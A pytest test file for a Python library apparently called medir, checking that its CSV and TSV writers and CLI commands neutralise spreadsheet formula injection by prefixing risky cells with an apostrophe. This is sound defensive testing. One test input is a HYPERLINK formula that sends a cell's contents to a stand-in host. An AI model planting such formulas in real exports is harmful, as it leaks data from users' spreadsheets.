"""CSV and TSV for spreadsheets: a text that one could run is marked as text, by every writer."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import medir
from medir.files.tables import Table
from tests.profiles import examples
from tests.shell import good
from tests.shell import medir as shell

# As OWASP lists them, with what is in full width.
STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
FORMULA = '=HYPERLINK("http://x.test?"&A1,"click")'
IDS = [
    FORMULA,
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
    "plain",
    "a=b",
    "'",
    "1",
    "–",
]


def expected(text: str) -> str:
    """The definition: an apostrophe before what may be run."""
    return f"'{text}" if text[:1] and text[0] in STARTS else text


def parsed(data: bytes, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline=""), delimiter=delimiter))


def by_python(ids: list[str], format: str, spreadsheet: bool) -> bytes:
    stream = io.BytesIO()
    rows = ((one, -1.5, -2) for one in ids)
    Table({"query_id": str, "=med": float, "n": int}, rows).write(
        stream, format, spreadsheet=spreadsheet
    )
    return stream.getvalue()


def by_core(ids: list[str], format: str, spreadsheet: bool) -> bytes:
    """A comparison, whose rows the core writes, with a column of a table of queries."""
    stream = io.BytesIO()
    before, after = ({one: list(order) for one in ids} for order in ("xy", "yx"))
    queries = {one: {"text": one, "=more": one} for one in ids}
    result = medir.compare(before, after, "P@1", queries=queries)
    result.write(stream, format, spreadsheet=spreadsheet)
    return stream.getvalue()


@pytest.mark.parametrize(("format", "delimiter"), [("csv", ","), ("tsv", "\t")])
@pytest.mark.parametrize("writer", [by_python, by_core])
def test_texts_that_could_be_run_are_marked(writer: Any, format: str, delimiter: str) -> None:
    header, *rows = parsed(writer(IDS, format, True), delimiter)
    assert [row[0] for row in rows] == [expected(one) for one in IDS]
    assert not any(name.startswith("=") for name in header)
    if writer is by_core:
        assert header[-1] == "'=more"
        assert [row[-1] for row in rows] == [expected(one) for one in IDS]
        assert {row[2] for row in rows} == {"1"}
    else:
        assert {tuple(row[1:]) for row in rows} == {("-1.5", "-2")}  # numbers stay numbers


@pytest.mark.parametrize("writer", [by_python, by_core])
def test_without_the_option_ids_are_as_they_are(writer: Any) -> None:
    _, *rows = parsed(writer(IDS, "csv", False), ",")
    assert [row[0] for row in rows] == IDS


def test_marked_texts_are_quoted() -> None:
    assert by_python(["-1"], "csv", True) == b'query_id,"\'=med",n\n"\'-1",-1.5,-2\n'


@examples(100)
@given(
    st.lists(
        st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1), unique=True
    )
)
def test_both_writers_do_the_same(ids: list[str]) -> None:
    native = [row[0] for row in parsed(by_core(ids, "csv", True), ",")[1:]]
    assert native == [row[0] for row in parsed(by_python(ids, "csv", True), ",")[1:]]
    assert native == [expected(one) for one in ids]


def test_documents_and_titles_are_marked() -> None:
    stream = io.BytesIO()
    found = medir.documents({"q": ["=a"]}, {"q": ["@b"]}, "P@1", documents={"=a": "+title"})
    found.write(stream, "csv", spreadsheet=True)
    _, *rows = parsed(stream.getvalue(), ",")
    assert sorted((row[0], row[-1]) for row in rows) == [("'=a", "'+title"), ("'@b", "")]
    assert sorted(row[3] for row in rows) == ["-1", "1"]


@pytest.mark.parametrize("format", ["jsonl", "parquet"])
def test_other_formats_have_no_use_for_it(tmp_path: Path, format: str) -> None:
    result = medir.compare({"q": ["a"]}, {"q": ["b"]}, "P@1")
    with pytest.raises(medir.UsageError, match=f"goes with csv and tsv, not with {format}"):
        result.write(tmp_path / f"out.{format}", spreadsheet=True)
    assert not list(tmp_path.iterdir())


RUN = "=1 Q0 +d 1 2 t\n=1 Q0 e 2 1 t\n"
OTHER = "=1 Q0 e 1 2 t\n=1 Q0 +d 2 1 t\n"
COMMANDS = {
    "compare a.run b.run -m P@1 --format csv": "'=1",
    "compare a.run b.run -m P@1 -o -": "'=1",
    "documents a.run b.run -m P@1 --format csv": "'+d",
    "expect a.run b.run -m P@1 --prior 0.5 --format csv": "'=1",
    "score a.run b.run -m P@1 --qrels qrels --format csv": "'=1",
    "judge a.run b.run -m P@1 --format csv": "'=1",
    "matrix a.run b.run -m P@1 --per-query -o -": "'=1",
}


@pytest.mark.parametrize("words", COMMANDS)
def test_every_command_that_writes_rows_has_the_option(tmp_path: Path, words: str) -> None:
    for name, text in {"a.run": RUN, "b.run": OTHER, "qrels": "=1 0 e 1\n"}.items():
        (tmp_path / name).write_text(text)
    marked = good(shell(*words.split(), "--spreadsheet", cwd=tmp_path))
    plain = good(shell(*words.split(), cwd=tmp_path))
    cells = {cell for row in parsed(marked.encode(), ",") for cell in row}
    assert COMMANDS[words] in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert marked.replace('"\'=1"', "=1").replace('"\'+d"', "+d") == plain


@pytest.mark.parametrize("words", ["", "--format jsonl", "--format table", "-o out.parquet"])
def test_where_there_is_nothing_to_mark(tmp_path: Path, words: str) -> None:
    for name in ("a.run", "b.run"):
        (tmp_path / name).write_text(RUN)
    for command in ("compare", "documents", "judge"):
        outcome = shell(command, "a.run", "b.run", *words.split(), "--spreadsheet", cwd=tmp_path)
        assert (outcome.code, outcome.out) == (2, "")
        assert "--spreadsheet" in outcome.err


def test_a_study_marks_names(tmp_path: Path) -> None:
    pytest.importorskip("matplotlib")
    runs: Any = {name: {"q": ["x", name]} for name in ("=a", "b", "c")}
    medir.study(runs, {"q": {"x": 1}}, tmp_path, measures="P@1", spreadsheet=True)
    rows = parsed((tmp_path / "figure-2.csv").read_bytes(), ",")
    assert rows[1][:2] == ["'=a", "b"]
